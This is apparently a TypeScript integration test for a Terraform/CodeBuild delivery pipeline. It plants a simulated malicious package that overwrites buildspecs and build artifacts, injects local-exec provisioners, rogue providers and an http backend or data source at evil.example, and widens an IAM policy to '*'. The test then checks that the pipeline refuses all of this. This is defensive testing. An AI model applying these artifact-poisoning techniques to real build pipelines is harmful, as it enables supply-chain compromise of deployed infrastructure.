import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { zipSync } from 'fflate';
import { readBuildspec, runBuildspec, takeArtifact } from './support/buildspec';
import type { Buildspec, BuildResult } from './support/buildspec';
import { startMoto, type Moto } from './support/moto';
import { newWithSharedPackages } from './support/packages';
import { writeCliConfig } from './support/terraform';
import { describeWith, mirror } from './support/tools';
import type { GeneratedRepository } from '../../scripts/lib/generated-repository';
import { tryRun } from '../../scripts/lib/run';
import { close, listen } from '../../templates/framework/local/http-server';

const SERVICE = 'delivered';
const STACK = `${SERVICE}-dev`;
const STATE_BUCKET = 'terraform-state-of-delivery';
const ARTIFACT_BUCKET = 'artifacts-of-delivery';
const SECRET = 'a-token-that-no-log-has';

type Json = Record<string, any>;

/**
 * A package that is malicious: it leaves in the build's artifact whatever might be run with more rights than the build has. `PWNED` is the file
 * that each of these would make.
 */
const MALICIOUS = (pwned: string) => `
{
const { chmodSync, existsSync, mkdirSync, writeFileSync } = require('node:fs');
const put = (file, text) => { if (existsSync(file)) chmodSync(file, 0o644); writeFileSync(file, text); };
const touch = 'touch ${pwned}';
const command = 'require("node:child_process").execSync(' + JSON.stringify(touch) + ');';
for (const name of ['buildspec-deploy.yml', 'buildspec-review.yml', 'buildspec-verify.yml', 'samples/buildspec.yml']) {
  put(name, 'version: 0.2\\nphases: { build: { commands: [' + JSON.stringify(touch) + '] } }\\n');
}
mkdirSync('dist/tools', { recursive: true });
for (const name of ['acceptance', 'reprocess', 'plan-summary', 'take-configuration', 'install-terraform']) put('dist/tools/' + name + '.js', command);
const stack = 'cdktf.out/stacks/${STACK}/';
put(stack + 'evil.tf', 'resource "terraform_data" "evil" {\\n provisioner "local-exec" { command = ' + JSON.stringify(touch) + ' }\\n}\\n');
put(stack + 'override.tf.json', JSON.stringify({ terraform: { required_providers: { evil: { source: 'evil.example/evil/evil' } } } }));
put(stack + 'terraform.tfvars', 'evil = 1');
put(stack + '.terraform.lock.hcl', 'provider "evil.example/evil/evil" {\\n version = "1.0.0"\\n}\\n');
put(stack + 'plan.tfplan', 'not a plan');
put(stack + 'SHA256SUMS', '');
mkdirSync(stack + '.terraform/providers', { recursive: true });
put(stack + '.terraform/terraform.tfstate', JSON.stringify({ version: 3, backend: { type: 'http', config: { address: 'https://evil.example' } } }));
mkdirSync('reviewed', { recursive: true });
put('reviewed/evil.tf', 'resource "terraform_data" "evil" {}');
}
`;

/** The buildspecs as CodeBuild runs them: a real Terraform, downloaded from a mirror on this machine, against an emulated AWS. */
describeWith(['terraform', 'moto', 'mirror'], 'the delivery pipeline is not tried')('a delivery pipeline, with a malicious package in its build', () => {
  const root = mkdtempSync(join(tmpdir(), 'mozdef-ef-delivery-'));
  const [built, plan, pwned] = ['built', 'plan', 'pwned'].map((name) => join(root, name));
  let moto: Moto;
  let releases: { server: Server; url: string; version: string; sha256: string };
  let repository: GeneratedRepository;
  let env: NodeJS.ProcessEnv;
  /** The CodeBuild projects of the pipeline's stack, as a person deployed it. */
  let specs: Record<'review' | 'deploy' | 'verify', Buildspec>;
  let reviewed: BuildResult;
  let deployed: BuildResult;

  beforeAll(async () => {
    [moto, releases] = await Promise.all([startMoto(), serveTerraform()]);
    for (const bucket of [STATE_BUCKET, ARTIFACT_BUCKET]) expect((await fetch(`${moto.url}/${bucket}`, { method: 'PUT' })).status).toBe(200);
    repository = await newWithSharedPackages(join(root, 'repository'), process.env.MOZDEF_EF_TARBALL!, [
      '--service', SERVICE, '--source', 'generic-webhook', '--aws-provider-version', '5.100.0', '--state-bucket', STATE_BUCKET, '--no-git',
    ]);
    const projenrc = join(repository.directory, '.projenrc.ts');
    writeFileSync(projenrc, readFileSync(projenrc, 'utf8').replace(/new MozdefEventSourceProject\(\{/, `$&
      alarmEmail: 'soc@example.com',
      pipeline: { codeCommit: { repository: 'delivered' }, acceptanceSamples: ['private.json'] },
      terraformVersion: '${releases.version}',
      terraformSha256: { amd64: '${releases.sha256}', arm64: '${releases.sha256}' },`));
    await repository.projen();

    const configuration = join(root, 'configuration');
    mkdirSync(join(configuration, 'samples'), { recursive: true });
    writeFileSync(join(configuration, 'samples', 'private.json'), '{"type":"private","summary":"a sample that is not in the repository"}');
    writeFileSync(join(configuration, 'package.json'), 'not JSON, and not taken');
    env = {
      STAGE: 'dev',
      SERVICE,
      PROJECT: `MozDef-EF-${STACK}`,
      API_PATH: SERVICE,
      STACK,
      CODEBUILD_BUILD_URL: 'https://console.example/build/1',
      CODEBUILD_SRC_DIR_Configuration: configuration,
      TERRAFORM_RELEASES_URL: releases.url,
      TF_CLI_CONFIG_FILE: writeCliConfig(mirror!),
      AWS_ENDPOINT_URL: moto.url,
      AWS_ACCESS_KEY_ID: 'testing',
      AWS_SECRET_ACCESS_KEY: 'testing',
      AWS_REGION: 'us-west-2',
    };
    specs = await deployPipelineByHand();
  });

  afterAll(async () => {
    await Promise.all([moto?.stop(), releases && close(releases.server)]);
    rmSync(root, { recursive: true, force: true });
  });

  test('builds and tests', async () => {
    const eslint = 'node_modules/eslint/bin/eslint.js';
    writeFileSync(join(root, 'eslint.js'), `${readFileSync(join(repository.directory, eslint), 'utf8')}\n${MALICIOUS(pwned)}`, { mode: 0o755 });
    const spec = withPackage(readBuildspec(repository.directory, 'buildspec.yml'), `cp --remove-destination ${join(root, 'eslint.js')} ${eslint}`);
    const { status, log } = await runBuildspec(repository.directory, spec, env);
    expect({ status, failed: status === 0 ? '' : log }).toEqual({ status: 0, failed: '' });
    expect(log).toContain('samples/private.json');
    expect(readFileSync(join(repository.directory, 'test-reports', 'junit.xml'), 'utf8')).toContain('<testsuites');
    await takeArtifact(repository.directory, spec, built);
    // It has done what it could.
    expect(existsSync(join(built, 'cdktf.out', 'stacks', STACK, 'evil.tf'))).toBe(true);
    renameSync(repository.directory, `${repository.directory}-gone`);
  });

  test.each<[string, (stack: Json) => void, string]>([
    ['a foreign provider', ({ terraform }) => { terraform.required_providers.evil = { source: 'evil.example/evil/evil' }; }, 'terraform.required_providers'],
    ['a provisioner', ({ resource }) => {
      resource.aws_sqs_queue.events.provisioner = [{ 'local-exec': { command: `touch ${pwned}` } }];
    }, 'aws_sqs_queue.events: has a provisioner'],
    ['a program that has the credentials', ({ provider }) => { provider.aws[0].shared_config_files = ['assets/config']; }, 'provider.aws'],
    ['a role that may do everything', ({ resource }) => {
      const policy = resource.aws_iam_role_policy.ingest;
      policy.policy = policy.policy.replace('sqs:SendMessage', '*');
    }, 'aws_iam_role_policy.ingest'],
    ['a request with what the stack knows', ({ data }) => { data.http = { evil: { url: 'https://evil.example' } }; }, 'data.http.evil'],
  ])('refuses a configuration with %s, before Terraform sees it', async (_, change, message) => {
    const directory = join(root, 'changed');
    cpSync(built, directory, { recursive: true });
    changeStack(directory, change);
    const { status, log, exported } = await runBuildspec(directory, specs.review, env);
    rmSync(directory, { recursive: true });
    expect({ status, exported }).toEqual({ status: 1, exported: {} });
    expect(log).toContain(message);
    expect(log).not.toContain('Initializing the backend');
  });

  test('reviews and plans what was built, and nothing that the package left', async () => {
    reviewed = await runBuildspec(built, specs.review, env);
    expect({ status: reviewed.status, failed: reviewed.status === 0 ? '' : reviewed.log }).toEqual({ status: 0, failed: '' });
    expect(reviewed.exported).toEqual({
      PLAN_SUMMARY: expect.stringMatching(/^\d+ to add, 0 to change, 0 to destroy \| create aws_/) as string,
      PLAN_SHA256: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
      BUILD_URL: 'https://console.example/build/1',
    });
    expect(reviewed.exported.PLAN_SUMMARY.length).toBeLessThanOrEqual(900);
    await takeArtifact(built, specs.review, plan);
    const sums = readFileSync(join(plan, 'SHA256SUMS'), 'utf8').trim().split('\n').map((line) => line.slice(66).replace(/assets\/.*/, 'assets'));
    expect([...new Set(sums)]).toEqual(['./.terraform.lock.hcl', './assets', './cdk.tf.json', './plan.tfplan']);
    expect(readFileSync(join(plan, '.terraform.lock.hcl'), 'utf8')).not.toContain('evil');
    expect(existsSync(join(plan, '.terraform'))).toBe(false);
  });

  test.each<[string, (directory: string) => void]>([
    ['a bundle', (directory) => writeFileSync(join(directory, bundleOf(directory)), 'another')],
    ['the plan, and its hash', (directory) => {
      writeFileSync(join(directory, 'plan.tfplan'), 'another');
      execFileSync('bash', ['-c', 'find . -type f ! -name SHA256SUMS -print0 | sort -z | xargs -0 sha256sum > SHA256SUMS'], { cwd: directory });
    }],
  ])('does not apply what was changed after the review: %s', async (_, change) => {
    const directory = join(root, 'changed');
    cpSync(plan, directory, { recursive: true });
    change(directory);
    const { status, log } = await runBuildspec(directory, specs.deploy, { ...env, PLAN_SHA256: reviewed.exported.PLAN_SHA256 });
    rmSync(directory, { recursive: true });
    expect(status).toBe(1);
    expect(log).toContain('FAILED');
    expect(log).not.toContain('Apply complete!');
  });

  test('applies the very plan, from nothing but what was reviewed', async () => {
    deployed = await runBuildspec(plan, specs.deploy, { ...env, PLAN_SHA256: reviewed.exported.PLAN_SHA256 });
    expect(deployed).toMatchObject({ status: 0, log: expect.stringContaining('Apply complete!') as string });
    expect(deployed.exported).toEqual({
      WEBHOOK_URL: expect.stringMatching(/^https:\/\/\w+\.execute-api\.us-west-2\.amazonaws\.com\/dev\/delivered$/) as string,
      QUEUE_URL: expect.stringMatching(/\/MozDef-EF-delivered-dev$/) as string,
    });
  });

  test('leaves nothing to change', async () => {
    const { status, output } = await tryRun('terraform', ['plan', '-input=false', '-detailed-exitcode'], { cwd: plan, env });
    expect(output).toContain('No changes.');
    expect(status).toBe(0);
  });

  test('tries what it deployed', async () => {
    await new SSMClient(client()).send(new PutParameterCommand({ Name: `/MozDef-EF/${SERVICE}/dev/auth_token`, Value: SECRET, Type: 'SecureString' }));
    const verify = (url: string) =>
      runBuildspec(built, specs.verify, { ...env, ACTION: 'acceptance', WEBHOOK_URL: url, QUEUE_URL: deployed.exported.QUEUE_URL });

    // moto has no endpoints of its own for the APIs that it emulates: this answers in its place.
    const sqs = new SQSClient(client());
    const webhook = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => { body += chunk.toString('utf8'); }).on('end', () => {
        const genuine = request.headers.authorization === SECRET;
        void (genuine ? sqs.send(new SendMessageCommand({ QueueUrl: deployed.exported.QUEUE_URL, MessageBody: body })) : Promise.resolve())
          .then(() => response.writeHead(genuine ? 200 : 403).end('{"delivered":1,"quarantined":0,"dropped":0}'));
      });
    });
    try {
      const accepted = await verify(`http://127.0.0.1:${await listen(webhook, 0)}/`);
      expect(accepted).toMatchObject({ status: 0, log: expect.stringContaining('The queue has more messages than before.') as string });
      expect(accepted.log).toContain('private.json');
      expect(accepted.log).not.toContain(SECRET);
    } finally {
      await close(webhook);
    }
    const failed = await verify('http://127.0.0.1:1/');
    expect(failed).toMatchObject({ status: 1, log: expect.stringContaining('1 of 1 samples were not delivered: private.json.') as string });
    const elsewhere = await verify('https://evil.example/');
    expect(elsewhere).toMatchObject({ status: 1, log: expect.stringContaining('is not the webhook of this stage') as string });
  });

  test('fails the review when a queue would be lost, unless that is allowed', async () => {
    changeStack(built, ({ resource }) => { resource.aws_sqs_queue.events.name = 'renamed'; });
    const lost = await runBuildspec(built, specs.review, env);
    expect(lost).toMatchObject({ status: 1, log: expect.stringContaining('replace aws_sqs_queue.events') as string, exported: {} });
    const allowed = await runBuildspec(built, specs.review, { ...env, ALLOW_QUEUE_REPLACEMENT: 'true' });
    expect(allowed.exported.PLAN_SUMMARY).toMatch(/^\d+ to add, \d+ to change, \d+ to destroy \| !!! QUEUE AND ITS MESSAGES LOST: replace aws_sqs_queue\.events/);
  });

  test('and has run nothing of what the package left', () => {
    expect(existsSync(pwned)).toBe(false);
  });

  const client = () => ({ endpoint: moto.url, region: 'us-west-2', credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' }, forcePathStyle: true });

  function changeStack(directory: string, change: (stack: Json) => void): void {
    const file = join(directory, 'cdktf.out', 'stacks', STACK, 'cdk.tf.json');
    const stack = JSON.parse(readFileSync(file, 'utf8')) as Json;
    change(stack);
    writeFileSync(file, JSON.stringify(stack));
  }

  function bundleOf(directory: string): string {
    return (JSON.parse(readFileSync(join(directory, 'cdk.tf.json'), 'utf8')) as Json).resource.aws_lambda_function.ingest.filename;
  }

  /** Synthesizes the pipeline's stack, and does what of it moto cannot: it takes no CodeBuild project of a pipeline. */
  async function deployPipelineByHand(): Promise<typeof specs> {
    const { status, output } = await tryRun('npx', ['projen', 'synth'], { cwd: repository.directory, env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env } });
    expect({ status, output }).toMatchObject({ status: 0 });
    const directory = join(repository.directory, 'cdktf.out', 'stacks', `${STACK}-pipeline`);
    const { resource } = JSON.parse(readFileSync(join(directory, 'cdk.tf.json'), 'utf8')) as Json;
    const s3 = new S3Client(client());
    for (const { key, content, source } of Object.values<Json>(resource.aws_s3_object)) {
      const body = content === undefined ? readFileSync(join(directory, source)) : content.replaceAll('$${', '${').replaceAll('%%{', '%{');
      await s3.send(new PutObjectCommand({ Bucket: ARTIFACT_BUCKET, Key: key, Body: body }));
    }
    const specOf = (name: string) => JSON.parse((resource.aws_codebuild_project[name].source.buildspec as string)
      .replaceAll('${aws_s3_bucket.artifacts.bucket}', ARTIFACT_BUCKET)
      .replace(/\$\{aws_s3_object\.(\w+)\.key\}/g, (_, id: string) => resource.aws_s3_object[id].key)) as Buildspec;
    return { review: specOf('review'), deploy: specOf('deploy'), verify: specOf('verify') };
  }
});

/** A buildspec whose first command, which installs the packages, installs one more. */
function withPackage(spec: Buildspec, install: string): Buildspec {
  const { install: { commands: [first, ...rest] = [], ...phase } = {} } = spec.phases;
  return { ...spec, phases: { ...spec.phases, install: { ...phase, commands: [first, install, ...rest] } } };
}

/** A mirror of Terraform's releases with one: the program of this machine. */
async function serveTerraform() {
  const { terraform_version: version } = JSON.parse(execFileSync('terraform', ['version', '-json'], { encoding: 'utf8' })) as { terraform_version: string };
  const program = execFileSync('bash', ['-c', 'command -v terraform'], { encoding: 'utf8' }).trim();
  const archive = zipSync({ terraform: readFileSync(program) }, { level: 0 });
  const server = createServer((request, response) => {
    if (/^\/[\d.]+\/terraform_[\d.]+_linux_(amd64|arm64)\.zip$/.test(request.url!)) response.end(archive);
    else response.writeHead(404).end();
  });
  const url = `http://127.0.0.1:${await listen(server, 0)}`;
  return { server, url, version, sha256: createHash('sha256').update(archive).digest('hex') };
}
